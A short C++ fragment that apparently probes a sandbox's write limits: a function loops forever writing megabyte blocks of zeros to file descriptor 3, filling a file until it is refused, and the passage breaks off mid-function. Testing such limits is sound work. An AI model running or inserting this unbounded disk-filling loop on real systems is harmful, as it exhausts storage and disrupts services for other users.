// Fills the file of records until it is refused.
#include<assert.h>
#include<bits/stdc++.h>
#include <unistd.h>
long f(long x) {
    std::string zeros(1 << 20, 0);
    while (true) write(3, zeros.data(), zeros.size());
